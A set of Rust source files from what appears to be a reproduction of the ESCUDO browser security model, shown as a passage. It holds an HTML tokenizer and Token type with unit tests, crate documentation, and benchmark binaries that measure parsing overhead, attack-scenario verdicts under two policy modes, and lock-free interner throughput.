    fn prefetch_rel_matching_is_token_wise_and_case_insensitive() {
        let document = doc(concat!(
            "<html><head>",
            r#"<link rel="Prefetch" href="/one">"#,
            r#"<link rel="dns-prefetch" href="/not-this">"#,
            r#"<link rel="prerender prefetch" href="/two">"#,
            "</head></html>"
        ));
        let urls: Vec<String> = prefetch_links(&document)
            .into_iter()
            .map(|(_, url)| url)
            .collect();
        assert_eq!(urls, vec!["/one", "/two"]);
    }

    #[test]
    fn stylesheet_rel_is_also_token_wise() {
        let document =
            doc(r#"<html><head><link rel="preload stylesheet" href="/s.css"></head></html>"#);
        let urls: Vec<String> = critical_resources(&document)
            .into_iter()
            .map(|(_, url)| url)
            .collect();
        assert_eq!(urls, vec!["/s.css"]);
    }
}
