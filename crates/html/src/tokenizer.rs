//! The HTML tokenizer.

use crate::entities::decode_entities;
use crate::token::Token;

/// Tags whose content is treated as raw text up to the matching end tag.
const RAW_TEXT_TAGS: [&str; 4] = ["script", "style", "textarea", "title"];

fn is_raw_text_tag(tag: &str) -> bool {
    RAW_TEXT_TAGS.iter().any(|t| t.eq_ignore_ascii_case(tag))
}

/// A streaming HTML tokenizer.
///
/// The tokenizer is browser-like: it never fails, it recovers from malformed markup by
/// emitting the closest sensible token (or plain text), and it supports the two ESCUDO
/// extensions described in the [crate docs](crate) — attributes on end tags and
/// raw-text handling that keeps scripts opaque to the markup around them.
#[derive(Debug, Clone)]
pub struct Tokenizer {
    chars: Vec<char>,
    pos: usize,
    /// When inside a raw-text element, the tag name whose end tag terminates the run.
    raw_text_until: Option<String>,
    finished: bool,
}

impl Tokenizer {
    /// Creates a tokenizer over the given input.
    #[must_use]
    pub fn new(input: &str) -> Self {
        Tokenizer {
            chars: input.chars().collect(),
            pos: 0,
            raw_text_until: None,
            finished: false,
        }
    }

    /// Tokenizes the entire input (convenience for tests).
    #[must_use]
    pub fn tokenize_all(input: &str) -> Vec<Token> {
        Tokenizer::new(input).collect()
    }

    /// Produces the next token, or [`Token::Eof`] exactly once at the end of input.
    pub fn next_token(&mut self) -> Token {
        if let Some(tag) = self.raw_text_until.clone() {
            if let Some(token) = self.raw_text(&tag) {
                return token;
            }
        }
        if self.pos >= self.chars.len() {
            self.finished = true;
            return Token::Eof;
        }
        if self.peek() == Some('<') {
            self.tag_or_markup()
        } else {
            self.text()
        }
    }

    // ------------------------------------------------------------- primitives

    fn peek(&self) -> Option<char> {
        self.chars.get(self.pos).copied()
    }

    fn peek_at(&self, offset: usize) -> Option<char> {
        self.chars.get(self.pos + offset).copied()
    }

    fn starts_with_ci(&self, needle: &str) -> bool {
        needle.chars().enumerate().all(|(idx, expected)| {
            self.peek_at(idx)
                .map(|c| c.eq_ignore_ascii_case(&expected))
                .unwrap_or(false)
        })
    }

    fn skip_whitespace(&mut self) {
        while matches!(self.peek(), Some(c) if c.is_whitespace()) {
            self.pos += 1;
        }
    }

    // ------------------------------------------------------------- text modes

    /// Raw-text mode: collect everything up to `</tag` (case-insensitive). Returns
    /// `None` once the raw text has been consumed so the caller falls through to
    /// normal tag tokenization for the end tag itself.
    fn raw_text(&mut self, tag: &str) -> Option<Token> {
        let close = format!("</{tag}");
        let start = self.pos;
        while self.pos < self.chars.len() {
            if self.peek() == Some('<') && self.starts_with_ci(&close) {
                break;
            }
            self.pos += 1;
        }
        let text: String = self.chars[start..self.pos].iter().collect();
        // Whether or not we found the closing tag, raw-text mode is over: either the
        // end tag follows, or we hit EOF.
        self.raw_text_until = None;
        if text.is_empty() {
            None
        } else {
            Some(Token::Text(text))
        }
    }

    fn text(&mut self) -> Token {
        let start = self.pos;
        while self.pos < self.chars.len() && self.peek() != Some('<') {
            self.pos += 1;
        }
        let raw: String = self.chars[start..self.pos].iter().collect();
        Token::Text(decode_entities(&raw))
    }

    // ------------------------------------------------------------- tags

    fn tag_or_markup(&mut self) -> Token {
        debug_assert_eq!(self.peek(), Some('<'));
        match self.peek_at(1) {
            Some('!') => self.markup_declaration(),
            Some('/') => self.end_tag(),
            Some(c) if c.is_ascii_alphabetic() => self.start_tag(),
            _ => {
                // A stray '<' is just text.
                self.pos += 1;
                Token::Text("<".to_string())
            }
        }
    }

    fn markup_declaration(&mut self) -> Token {
        if self.starts_with_ci("<!--") {
            self.pos += 4;
            let start = self.pos;
            while self.pos < self.chars.len() && !self.starts_with_ci("-->") {
                self.pos += 1;
            }
            let text: String = self.chars[start..self.pos].iter().collect();
            if self.starts_with_ci("-->") {
                self.pos += 3;
            }
            return Token::Comment(text);
        }
        if self.starts_with_ci("<!doctype") {
            self.pos += "<!doctype".len();
            self.skip_whitespace();
            let start = self.pos;
            while self.pos < self.chars.len() && self.peek() != Some('>') {
                self.pos += 1;
            }
            let name: String = self.chars[start..self.pos].iter().collect();
            if self.peek() == Some('>') {
                self.pos += 1;
            }
            return Token::Doctype(name.trim().to_string());
        }
        // Bogus comment: `<!…>`.
        self.pos += 2;
        let start = self.pos;
        while self.pos < self.chars.len() && self.peek() != Some('>') {
            self.pos += 1;
        }
        let text: String = self.chars[start..self.pos].iter().collect();
        if self.peek() == Some('>') {
            self.pos += 1;
        }
        Token::Comment(text)
    }

    fn tag_name(&mut self) -> String {
        let start = self.pos;
        while matches!(self.peek(), Some(c) if c.is_ascii_alphanumeric() || c == '-' || c == '_' || c == ':')
        {
            self.pos += 1;
        }
        self.chars[start..self.pos]
            .iter()
            .collect::<String>()
            .to_ascii_lowercase()
    }

    fn start_tag(&mut self) -> Token {
        self.pos += 1; // consume '<'
        let name = self.tag_name();
        let (attrs, self_closing) = self.attributes();
        if !self_closing && is_raw_text_tag(&name) {
            self.raw_text_until = Some(name.clone());
        }
        Token::StartTag {
            name,
            attrs,
            self_closing,
        }
    }

    fn end_tag(&mut self) -> Token {
        self.pos += 2; // consume '</'
        let name = self.tag_name();
        if name.is_empty() {
            // `</>` or `</ …>`: skip to '>' and treat as a comment-like no-op text.
            while self.pos < self.chars.len() && self.peek() != Some('>') {
                self.pos += 1;
            }
            if self.peek() == Some('>') {
                self.pos += 1;
            }
            return Token::Text(String::new());
        }
        let (attrs, _) = self.attributes();
        Token::EndTag { name, attrs }
    }

    /// Parses the attribute list of a tag up to and including the terminating `>`.
    /// Returns the attributes and whether the tag was self-closing.
    fn attributes(&mut self) -> (Vec<(String, String)>, bool) {
        let mut attrs: Vec<(String, String)> = Vec::new();
        let mut self_closing = false;
        loop {
            self.skip_whitespace();
            match self.peek() {
                None => break,
                Some('>') => {
                    self.pos += 1;
                    break;
                }
                Some('/') => {
                    self.pos += 1;
                    if self.peek() == Some('>') {
                        self.pos += 1;
                        self_closing = true;
                        break;
                    }
                }
                Some(_) => {
                    let name = self.attribute_name();
                    if name.is_empty() {
                        // Skip a character we cannot interpret to guarantee progress.
                        self.pos += 1;
                        continue;
                    }
                    self.skip_whitespace();
                    let value = if self.peek() == Some('=') {
                        self.pos += 1;
                        self.skip_whitespace();
                        self.attribute_value()
                    } else {
                        String::new()
                    };
                    if !attrs.iter().any(|(existing, _)| *existing == name) {
                        attrs.push((name, value));
                    }
                }
            }
        }
        (attrs, self_closing)
    }

    fn attribute_name(&mut self) -> String {
        let start = self.pos;
        while matches!(self.peek(), Some(c) if !c.is_whitespace() && c != '=' && c != '>' && c != '/')
        {
            self.pos += 1;
        }
        self.chars[start..self.pos]
            .iter()
            .collect::<String>()
            .to_ascii_lowercase()
    }

    fn attribute_value(&mut self) -> String {
        match self.peek() {
            Some(quote @ ('"' | '\'')) => {
                self.pos += 1;
                let start = self.pos;
                while self.pos < self.chars.len() && self.peek() != Some(quote) {
                    self.pos += 1;
                }
                let value: String = self.chars[start..self.pos].iter().collect();
                if self.peek() == Some(quote) {
                    self.pos += 1;
                }
                decode_entities(&value)
            }
            _ => {
                let start = self.pos;
                while matches!(self.peek(), Some(c) if !c.is_whitespace() && c != '>') {
                    self.pos += 1;
                }
                let value: String = self.chars[start..self.pos].iter().collect();
                decode_entities(&value)
            }
        }
    }

    /// `true` once [`Token::Eof`] has been produced.
    #[must_use]
    pub fn is_finished(&self) -> bool {
        self.finished
    }
}

impl Iterator for Tokenizer {
    type Item = Token;

    fn next(&mut self) -> Option<Token> {
        if self.finished {
            return None;
        }
        let token = self.next_token();
        if token == Token::Eof {
            self.finished = true;
            return None;
        }
        Some(token)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn start(name: &str, attrs: &[(&str, &str)]) -> Token {
        Token::StartTag {
            name: name.to_string(),
            attrs: attrs
                .iter()
                .map(|(n, v)| (n.to_string(), v.to_string()))
                .collect(),
            self_closing: false,
        }
    }

    fn end(name: &str) -> Token {
        Token::EndTag {
            name: name.to_string(),
            attrs: Vec::new(),
        }
    }

    #[test]
    fn simple_markup() {
        let tokens = Tokenizer::tokenize_all("<p class=\"x\">hello</p>");
        assert_eq!(
            tokens,
            vec![
                start("p", &[("class", "x")]),
                Token::Text("hello".into()),
                end("p"),
            ]
        );
    }

    #[test]
    fn attribute_quoting_styles() {
        let tokens = Tokenizer::tokenize_all("<div ring=2 r='1' w=\"0\" disabled>");
        assert_eq!(
            tokens,
            vec![start(
                "div",
                &[("ring", "2"), ("r", "1"), ("w", "0"), ("disabled", "")]
            )]
        );
    }

    #[test]
    fn duplicate_attributes_keep_the_first() {
        let tokens = Tokenizer::tokenize_all("<div ring=2 ring=0>");
        assert_eq!(tokens, vec![start("div", &[("ring", "2")])]);
    }

    #[test]
    fn end_tags_may_carry_attributes() {
        let tokens = Tokenizer::tokenize_all("<div nonce=12>x</div nonce=12>");
        assert_eq!(tokens[0], start("div", &[("nonce", "12")]));
        assert_eq!(
            tokens[2],
            Token::EndTag {
                name: "div".into(),
                attrs: vec![("nonce".into(), "12".into())],
            }
        );
    }

    #[test]
    fn self_closing_and_void_style_tags() {
        let tokens = Tokenizer::tokenize_all("<br/><img src=a.png />");
        assert_eq!(
            tokens,
            vec![
                Token::StartTag {
                    name: "br".into(),
                    attrs: vec![],
                    self_closing: true
                },
                Token::StartTag {
                    name: "img".into(),
                    attrs: vec![("src".into(), "a.png".into())],
                    self_closing: true
                },
            ]
        );
    }

    #[test]
    fn text_entities_are_decoded_but_script_content_is_raw() {
        let tokens =
            Tokenizer::tokenize_all("<p>a &amp; b</p><script>if (a &amp;&amp; b < c) {}</script>");
        assert_eq!(tokens[1], Token::Text("a & b".into()));
        // The script body is raw text: no entity decoding, '<' does not open a tag.
        assert_eq!(tokens[4], Token::Text("if (a &amp;&amp; b < c) {}".into()));
        assert_eq!(tokens[5], end("script"));
    }

    #[test]
    fn script_end_tag_is_found_case_insensitively() {
        let tokens = Tokenizer::tokenize_all("<SCRIPT>var x = '</div>';</ScRiPt>after");
        assert_eq!(tokens[0], start("script", &[]));
        assert_eq!(tokens[1], Token::Text("var x = '</div>';".into()));
        assert_eq!(tokens[2], end("script"));
        assert_eq!(tokens[3], Token::Text("after".into()));
    }

    #[test]
    fn comments_and_doctype() {
        let tokens = Tokenizer::tokenize_all("<!DOCTYPE html><!-- a comment --><p>x</p>");
        assert_eq!(tokens[0], Token::Doctype("html".into()));
        assert_eq!(tokens[1], Token::Comment(" a comment ".into()));
    }

    #[test]
    fn malformed_markup_degrades_to_text() {
        let tokens = Tokenizer::tokenize_all("a < b and 1 <2 <> <3");
        let text: String = tokens
            .iter()
            .filter_map(|t| match t {
                Token::Text(t) => Some(t.clone()),
                _ => None,
            })
            .collect();
        assert!(text.contains("a "));
        assert!(text.contains(" b and 1 "));
        // No panic and no tags were hallucinated.
        assert!(tokens.iter().all(|t| matches!(t, Token::Text(_))));
    }

    #[test]
    fn unterminated_structures_do_not_hang() {
        for input in [
            "<div",
            "<div attr",
            "<div attr=\"x",
            "<!-- never closed",
            "<script>never closed",
        ] {
            let tokens = Tokenizer::tokenize_all(input);
            assert!(!tokens.is_empty() || input.is_empty());
        }
    }

    #[test]
    fn eof_is_reported_once() {
        let mut tokenizer = Tokenizer::new("x");
        assert_eq!(tokenizer.next_token(), Token::Text("x".into()));
        assert_eq!(tokenizer.next_token(), Token::Eof);
        assert!(tokenizer.is_finished());
    }

    #[test]
    fn iterator_stops_at_eof() {
        let tokens: Vec<Token> = Tokenizer::new("<p>x</p>").collect();
        assert_eq!(tokens.len(), 3);
    }
}
