//! # escudo-html
//!
//! A from-scratch HTML parser feeding the [`escudo_dom::Document`] arena.
//!
//! The parser is deliberately pragmatic (it is not a full HTML5 state machine) but it
//! covers everything the ESCUDO reproduction needs, including two behaviours that are
//! specific to the paper:
//!
//! * **Attributes on end tags.** ESCUDO's markup randomization repeats a nonce on the
//!   closing tag (`</div nonce=3847>`); ordinary HTML end tags carry no attributes, so
//!   the tokenizer supports them explicitly.
//! * **Node-splitting rejection at parse time.** When nonce validation is enabled, a
//!   `</div>` that does not repeat the nonce of the open AC tag is *ignored* — the
//!   injected "split" stays inside the low-privilege region, exactly as §5 of the paper
//!   prescribes. The [`ParseReport`] records every rejected end tag so tests and the
//!   security experiments can observe the defense firing.
//!
//! # Example
//!
//! ```
//! use escudo_html::{parse_document, ParseOptions};
//!
//! let html = r#"<html><body><div ring="3" nonce="99">user content</div nonce="99"></body></html>"#;
//! let result = parse_document(html, &ParseOptions::default());
//! let doc = &result.document;
//! let divs = doc.elements_by_tag_name("div");
//! assert_eq!(divs.len(), 1);
//! assert_eq!(doc.attribute(divs[0], "ring"), Some("3"));
//! assert_eq!(result.report.rejected_end_tags, 0);
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod builder;
pub mod entities;
pub mod hints;
pub mod token;
pub mod tokenizer;

pub use builder::{parse_document, ParseOptions, ParseReport, ParseResult};
pub use hints::{critical_resources, prefetch_links};
pub use token::Token;
pub use tokenizer::Tokenizer;
