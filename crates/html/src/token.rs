//! Tokens produced by the [`Tokenizer`](crate::Tokenizer).

use std::fmt;

/// One HTML token.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Token {
    /// `<!DOCTYPE name>`
    Doctype(String),
    /// A start tag: `<name attr="value" …>` (or `<name … />` when `self_closing`).
    StartTag {
        /// Lower-cased tag name.
        name: String,
        /// Attributes in source order; names lower-cased, values entity-decoded.
        attrs: Vec<(String, String)>,
        /// `true` for `<name … />`.
        self_closing: bool,
    },
    /// An end tag: `</name …>`. ESCUDO end tags may carry attributes (the nonce).
    EndTag {
        /// Lower-cased tag name.
        name: String,
        /// Attributes on the end tag (normally empty; ESCUDO uses `nonce=`).
        attrs: Vec<(String, String)>,
    },
    /// A run of character data (entity-decoded unless inside a raw-text element).
    Text(String),
    /// `<!-- … -->`
    Comment(String),
    /// End of input.
    Eof,
}

impl Token {
    /// Looks up an attribute on a start or end tag.
    #[must_use]
    pub fn attr(&self, name: &str) -> Option<&str> {
        let attrs = match self {
            Token::StartTag { attrs, .. } | Token::EndTag { attrs, .. } => attrs,
            _ => return None,
        };
        attrs
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    /// The tag name for start/end tags.
    #[must_use]
    pub fn tag_name(&self) -> Option<&str> {
        match self {
            Token::StartTag { name, .. } | Token::EndTag { name, .. } => Some(name.as_str()),
            _ => None,
        }
    }
}

impl fmt::Display for Token {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Token::Doctype(name) => write!(f, "<!DOCTYPE {name}>"),
            Token::StartTag {
                name,
                attrs,
                self_closing,
            } => {
                write!(f, "<{name}")?;
                for (attr_name, value) in attrs {
                    write!(f, " {attr_name}=\"{value}\"")?;
                }
                if *self_closing {
                    write!(f, "/")?;
                }
                write!(f, ">")
            }
            Token::EndTag { name, attrs } => {
                write!(f, "</{name}")?;
                for (attr_name, value) in attrs {
                    write!(f, " {attr_name}=\"{value}\"")?;
                }
                write!(f, ">")
            }
            Token::Text(text) => write!(f, "{text}"),
            Token::Comment(text) => write!(f, "<!--{text}-->"),
            Token::Eof => write!(f, "<eof>"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attr_lookup_works_on_both_tag_kinds() {
        let start = Token::StartTag {
            name: "div".into(),
            attrs: vec![("ring".into(), "2".into())],
            self_closing: false,
        };
        assert_eq!(start.attr("ring"), Some("2"));
        assert_eq!(start.attr("RING"), Some("2"));
        assert_eq!(start.attr("r"), None);
        assert_eq!(start.tag_name(), Some("div"));

        let end = Token::EndTag {
            name: "div".into(),
            attrs: vec![("nonce".into(), "7".into())],
        };
        assert_eq!(end.attr("nonce"), Some("7"));
        assert_eq!(end.tag_name(), Some("div"));

        assert_eq!(Token::Text("x".into()).attr("a"), None);
        assert_eq!(Token::Eof.tag_name(), None);
    }

    #[test]
    fn display_is_html_like() {
        let start = Token::StartTag {
            name: "img".into(),
            attrs: vec![("src".into(), "/a.png".into())],
            self_closing: true,
        };
        assert_eq!(start.to_string(), "<img src=\"/a.png\"/>");
        assert_eq!(Token::Comment(" c ".into()).to_string(), "<!-- c -->");
        assert_eq!(Token::Doctype("html".into()).to_string(), "<!DOCTYPE html>");
    }
}
