//! The scenario fleet as a behavioural benchmark: the full
//! (app × attack × policy-mode) matrix, gated cell by cell.
//!
//! Run with `cargo bench --bench scenario_matrix` (optionally
//! `-- --repeats N --json path`). This is a plain `harness = false` binary; it
//! exits non-zero if a behavioural gate fails:
//!
//! * **verdict gate** — every cell of the registry matrix must land on its
//!   declared verdict: attacks succeed under the same-origin baseline and are
//!   neutralized under ESCUDO, compatibility probes keep working under both.
//!   **Zero** unexpected cells,
//! * **mediation gate** — the ESCUDO half of the matrix must actually mediate
//!   (non-zero reference-monitor checks and denials), and the baseline half
//!   must not deny anything the registry expects to succeed.
//!
//! The report exports per-mode verdict counts, per-scenario cell counts and
//! the mediation cost (checks/denials per mode, wall-clock per full matrix
//! pass) as `--json` keys.

use std::time::Instant;

use escudo_apps::scenario::{registry, CaseKind, MatrixReport};
use escudo_bench::cli::{parse_flag, JsonReport};
use escudo_browser::PolicyMode;

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let repeats = parse_flag(&args, "--repeats", 3).max(1);

    let scenarios = registry();
    let case_count: usize = scenarios.iter().map(|s| s.cases.len()).sum();
    println!(
        "scenario_matrix: {} scenarios, {case_count} cases, 2 policy modes, {repeats} repeats",
        scenarios.len()
    );

    // Repeated full passes give a stable wall-clock figure; the verdicts must
    // be identical on every pass (the staging is deterministic), so the last
    // report is the one gated and exported.
    let started = Instant::now();
    let mut report = MatrixReport::run(&scenarios);
    for _ in 1..repeats {
        report = MatrixReport::run(&scenarios);
    }
    let elapsed = started.elapsed();
    let per_pass_ms = elapsed.as_secs_f64() * 1e3 / repeats as f64;

    let mut failed = false;
    let mut json = JsonReport::new("scenario_matrix");
    json.int("matrix_scenarios", scenarios.len() as u64)
        .int("matrix_cases", case_count as u64)
        .int("matrix_cells", report.cells() as u64)
        .int("matrix_unexpected", report.unexpected().len() as u64)
        .int("matrix_repeats", repeats as u64)
        .num("matrix_pass_ms", per_pass_ms);

    for scenario in &scenarios {
        let cells = report.for_scenario(scenario.id);
        let unexpected = cells.iter().filter(|o| !o.as_expected()).count();
        println!(
            "  {:<10} {:>2} cells, {} unexpected",
            scenario.id,
            cells.len(),
            unexpected
        );
        json.int(&format!("matrix_{}_cells", scenario.id), cells.len() as u64);
        json.int(
            &format!("matrix_{}_unexpected", scenario.id),
            unexpected as u64,
        );
    }

    for (mode, key) in [
        (PolicyMode::SameOriginOnly, "sop"),
        (PolicyMode::Escudo, "escudo"),
    ] {
        println!(
            "  {:<12} {:>2} succeed / {:>2} neutralized   {:>5} checks, {:>3} denials",
            mode.to_string(),
            report.successes(mode),
            report.neutralized(mode),
            report.total_checks(mode),
            report.total_denials(mode)
        );
        json.int(&format!("{key}_successes"), report.successes(mode) as u64)
            .int(
                &format!("{key}_neutralized"),
                report.neutralized(mode) as u64,
            )
            .int(&format!("{key}_checks"), report.total_checks(mode))
            .int(&format!("{key}_denials"), report.total_denials(mode));
    }

    // ----------------------------------------------------------- verdict gate
    if report.unexpected().is_empty() {
        println!("ok: every cell landed on its declared verdict");
    } else {
        for outcome in report.unexpected() {
            eprintln!("FAIL: unexpected cell: {outcome}");
        }
        failed = true;
    }

    // --------------------------------------------------------- mediation gate
    if report.total_checks(PolicyMode::Escudo) == 0 || report.total_denials(PolicyMode::Escudo) == 0
    {
        eprintln!(
            "FAIL: the ESCUDO half of the matrix recorded {} checks and {} denials — the \
             reference monitor is not mediating the fleet",
            report.total_checks(PolicyMode::Escudo),
            report.total_denials(PolicyMode::Escudo)
        );
        failed = true;
    }
    let sop_attack_neutralized = report
        .for_mode(PolicyMode::SameOriginOnly)
        .iter()
        .filter(|o| o.kind != CaseKind::Probe && o.observed != o.expected)
        .count();
    if sop_attack_neutralized != 0 {
        eprintln!(
            "FAIL: {sop_attack_neutralized} baseline attack cells deviated — the SOP baseline \
             is blocking what it should admit"
        );
        failed = true;
    }

    json.flag("gates_passed", !failed);
    json.write_if_requested(&args);
    if failed {
        std::process::exit(1);
    }
}
