//! Bench for Figure 4: parsing + rendering each of the eight workload pages with and
//! without ESCUDO.
//!
//! Run with `cargo bench --bench parse_render` (plain `harness = false` binary).

use escudo_bench::cli::JsonReport;
use escudo_bench::measure::load_once;
use escudo_bench::workload::{figure4_scenarios, generate_page};
use escudo_browser::PolicyMode;

/// Best-of-`reps` parse+render nanoseconds for one page under one mode.
fn time_load(mode: PolicyMode, html: &str, reps: usize) -> u128 {
    let _ = load_once(mode, html); // warm-up
    (0..reps)
        .map(|_| load_once(mode, html).parse_and_render_ns())
        .min()
        .unwrap_or(0)
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    const REPS: usize = 15;
    println!("figure4_parse_render (best of {REPS} loads, parse+label+render ns):");
    println!(
        "  {:<28} {:>14} {:>14} {:>9}",
        "scenario", "without", "with", "overhead"
    );
    let mut json = JsonReport::new("parse_render");
    for scenario in figure4_scenarios() {
        let html = generate_page(&scenario);
        let without = time_load(PolicyMode::SameOriginOnly, &html, REPS);
        let with = time_load(PolicyMode::Escudo, &html, REPS);
        let overhead = if without > 0 {
            (with as f64 - without as f64) / without as f64 * 100.0
        } else {
            0.0
        };
        println!(
            "  {:<28} {without:>14} {with:>14} {overhead:>8.1}%",
            scenario.name
        );
        json.int(&format!("{}_without_ns", scenario.name), without as u64)
            .int(&format!("{}_with_ns", scenario.name), with as u64)
            .num(&format!("{}_overhead_pct", scenario.name), overhead);
    }
    json.write_if_requested(&args);
}
