//! Criterion bench for Figure 4: parsing + rendering each of the eight workload pages
//! with and without ESCUDO.

use std::time::Duration;

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use escudo_bench::measure::load_once;
use escudo_bench::workload::{figure4_scenarios, generate_page};
use escudo_browser::PolicyMode;

fn parse_render(c: &mut Criterion) {
    let mut group = c.benchmark_group("figure4_parse_render");
    group
        .sample_size(20)
        .warm_up_time(Duration::from_millis(300))
        .measurement_time(Duration::from_secs(2));
    for scenario in figure4_scenarios() {
        let html = generate_page(&scenario);
        group.bench_with_input(
            BenchmarkId::new("without_escudo", scenario.id),
            &html,
            |b, html| b.iter(|| load_once(PolicyMode::SameOriginOnly, html)),
        );
        group.bench_with_input(
            BenchmarkId::new("with_escudo", scenario.id),
            &html,
            |b, html| b.iter(|| load_once(PolicyMode::Escudo, html)),
        );
    }
    group.finish();
}

criterion_group!(benches, parse_render);
criterion_main!(benches);
