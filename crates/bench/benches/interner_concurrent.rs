//! First-touch-storm throughput of the lock-free context interner against the
//! retained `RwLock<ContextTable>` reference implementation.
//!
//! Run with `cargo bench --bench interner_concurrent` (optionally
//! `-- --threads N --shared S --disjoint D --passes P --json path`). This is a
//! plain `harness = false` binary; it reports aggregate interns/second for both
//! sides at 1/2/4/8 threads plus the single-thread warm-lookup cost, and exits
//! non-zero if a behavioural gate fails:
//!
//! * at the highest thread count the lock-free interner must sustain at least
//!   **2×** the reference implementation's first-touch-storm throughput (the
//!   CAS-append really does remove the write-lock convoy). On a host with a
//!   single hardware thread the convoy physically cannot form — threads run
//!   whole scheduler slices without ever overlapping a lock hold — so the gate
//!   degrades to the pure *protocol* win (no lock acquisitions, no
//!   read-probe-then-write-reprobe double walk): ≥ **1.3×**, with the reason
//!   printed,
//! * single-thread **warm lookups** must not regress beyond **5%** of the
//!   reference (removing the stall may not tax the steady state),
//! * every storm pass asserts density (ids are exactly `0..population`, no id
//!   burned by a lost race) and convergence (lookup after intern always hits)
//!   inside the workload itself — a violation panics the bench.
//!
//! The interner's occupancy counters (CAS retries, bucket depth) are printed so
//! storms stay observable, and `--json` writes the machine-readable report CI
//! archives as the perf trajectory.

use escudo_bench::cli::{parse_flag, JsonReport};
use escudo_bench::interner::{
    best_storm, measure_warm_lookup, storm_contexts, RwLockContextTable, StormSample,
};
use escudo_core::{ContextInterner, SPILL_WINDOW_SLOTS};

/// Minimum lock-free-over-reference storm speedup at the highest thread count,
/// on any host where two threads can actually run in parallel (the convoy the
/// lock-free design removes needs overlapping lock holds to exist at all).
const MIN_STORM_SPEEDUP: f64 = 2.0;

/// Storm-speedup floor on a single-hardware-thread host: with no parallelism,
/// threads run whole scheduler slices back to back and the `RwLock` is never
/// contended mid-hold, so only the *protocol* win is measurable — no lock
/// acquisitions, no read-probe-then-write-reprobe double walk. 1.3× is well
/// below the ~1.5–1.9× this machine class measures, and far above noise.
const SINGLE_CORE_SPEEDUP_FLOOR: f64 = 1.3;

/// Maximum tolerated single-thread warm-lookup regression (lock-free may cost
/// at most 5% more than the reference's read-locked probe).
const MAX_WARM_LOOKUP_REGRESSION: f64 = 1.05;

/// Buckets for storm-scale interners: sized so the bench's few-thousand-context
/// population keeps chains shallow, as a storm-facing deployment would size it.
const STORM_BUCKETS: usize = 1024;

fn report_line(side: &str, sample: &StormSample) {
    println!(
        "  {side:<20} {: >2} thread(s)  {: >8.1} ns/intern  {: >11.0} interns/s",
        sample.threads,
        sample.ns_per_intern(),
        sample.interns_per_sec(),
    );
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let max_threads = parse_flag(&args, "--threads", 8).max(1);
    let shared = parse_flag(&args, "--shared", 192).max(1);
    let disjoint = parse_flag(&args, "--disjoint", 96);
    let passes = parse_flag(&args, "--passes", 12).max(1);
    let thread_counts: Vec<usize> = [1usize, 2, 4, 8]
        .into_iter()
        .filter(|t| *t <= max_threads)
        .collect();
    println!(
        "interner_concurrent: {shared} shared + {disjoint} disjoint context pairs per thread, \
         {passes} storm passes per sample, threads {thread_counts:?}"
    );

    let mut failed = false;
    let mut json = JsonReport::new("interner_concurrent");
    json.int("shared_contexts", shared as u64)
        .int("disjoint_contexts_per_thread", disjoint as u64)
        .int("storm_passes", passes as u64);

    // ------------------------------------------------- storm throughput sweep
    let mut speedup_at_max = 0.0f64;
    for &threads in &thread_counts {
        let (shared_pairs, disjoint_pairs) = storm_contexts(shared, disjoint, threads);
        // Warm-up storm for allocator and branch predictors, then best-of-3.
        let _ = best_storm(
            || ContextInterner::with_buckets(STORM_BUCKETS),
            &shared_pairs,
            &disjoint_pairs,
            1,
            1,
        );
        let lockfree = best_storm(
            || ContextInterner::with_buckets(STORM_BUCKETS),
            &shared_pairs,
            &disjoint_pairs,
            passes,
            3,
        );
        let reference = best_storm(
            RwLockContextTable::new,
            &shared_pairs,
            &disjoint_pairs,
            passes,
            3,
        );
        println!("first-touch storm at {threads} thread(s):");
        report_line("lock-free interner", &lockfree);
        report_line("rwlock reference", &reference);
        let speedup = lockfree.interns_per_sec() / reference.interns_per_sec();
        println!("  speedup {speedup:.2}x");
        json.num(
            &format!("storm_lockfree_interns_per_sec_t{threads}"),
            lockfree.interns_per_sec(),
        )
        .num(
            &format!("storm_rwlock_interns_per_sec_t{threads}"),
            reference.interns_per_sec(),
        )
        .num(&format!("storm_speedup_t{threads}"), speedup);
        if threads == *thread_counts.last().expect("at least one thread count") {
            speedup_at_max = speedup;
        }
    }

    let max_thread_count = *thread_counts.last().expect("at least one thread count");
    let hardware_threads =
        std::thread::available_parallelism().map_or(1, std::num::NonZeroUsize::get);
    // Contention needs two storm threads actually running at once: both the
    // hardware and the configured storm width must allow it, or the convoy the
    // 2x gate targets cannot form and only the protocol win is measurable.
    let contended_width = hardware_threads.min(max_thread_count);
    let required = if contended_width >= 2 {
        MIN_STORM_SPEEDUP
    } else {
        println!(
            "note: storm cannot contend (min(hardware threads = {hardware_threads}, storm \
             threads = {max_thread_count}) < 2) — lock holds never overlap, so the write-lock \
             convoy cannot form; gating the protocol win at \
             ≥ {SINGLE_CORE_SPEEDUP_FLOOR:.2}x instead of ≥ {MIN_STORM_SPEEDUP:.1}x"
        );
        SINGLE_CORE_SPEEDUP_FLOOR
    };
    if speedup_at_max >= required {
        println!(
            "ok: lock-free interner {speedup_at_max:.2}x the rwlock reference under a \
             {max_thread_count}-thread first-touch storm (gate: ≥ {required:.2}x)"
        );
    } else {
        eprintln!(
            "FAIL: lock-free interner only {speedup_at_max:.2}x the rwlock reference at \
             {max_thread_count} threads (gate: ≥ {required:.2}x) — the write-lock \
             convoy is back"
        );
        failed = true;
    }

    // ------------------------------------------------- warm single-thread gate
    let (warm_contexts, _) = storm_contexts(shared, 0, 1);
    let lockfree_warm = measure_warm_lookup(
        || ContextInterner::with_buckets(STORM_BUCKETS),
        &warm_contexts,
        passes.max(8),
        7,
    );
    let reference_warm =
        measure_warm_lookup(RwLockContextTable::new, &warm_contexts, passes.max(8), 7);
    let warm_ratio = lockfree_warm / reference_warm;
    println!(
        "single-thread warm lookups: lock-free {lockfree_warm:.1} ns, reference \
         {reference_warm:.1} ns ({:.1}% of reference)",
        warm_ratio * 100.0
    );
    json.num("warm_lookup_lockfree_ns", lockfree_warm)
        .num("warm_lookup_rwlock_ns", reference_warm)
